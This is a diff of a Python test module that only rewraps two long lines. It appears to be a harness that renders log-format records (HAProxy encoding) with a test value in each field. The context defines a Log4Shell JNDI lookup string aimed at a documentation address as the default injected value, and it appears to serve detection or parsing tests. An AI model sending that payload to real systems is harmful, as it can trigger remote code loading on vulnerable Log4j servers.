@@ -14,7 +14,9 @@ DATA = Path(__file__).resolve().parents[1] / "data" / "formats"
 #: A Log4Shell payload with a documentation address as its target.
 PAYLOAD = "${jndi:ldap://198.51.100.7:1389/a}"
 
-CASES: list[dict[str, Any]] = tomllib.loads((DATA / "field_cases.toml").read_text())["case"]
+CASES: list[dict[str, Any]] = tomllib.loads((DATA / "field_cases.toml").read_text())[
+    "case"
+]
 
 
 def haproxy_encode(value: str) -> str:
@@ -25,7 +27,9 @@ def haproxy_encode(value: str) -> str:
 ENCODERS = {"haproxy": haproxy_encode}
 
 
-def render(case: dict[str, Any], slot: str | None = None, value: str = PAYLOAD) -> bytes:
+def render(
+    case: dict[str, Any], slot: str | None = None, value: str = PAYLOAD
+) -> bytes:
     """The case's record with defaults in every slot, and ``value`` in ``slot``."""
     record: str = case["record"]
     for name, spec in case["slots"].items():
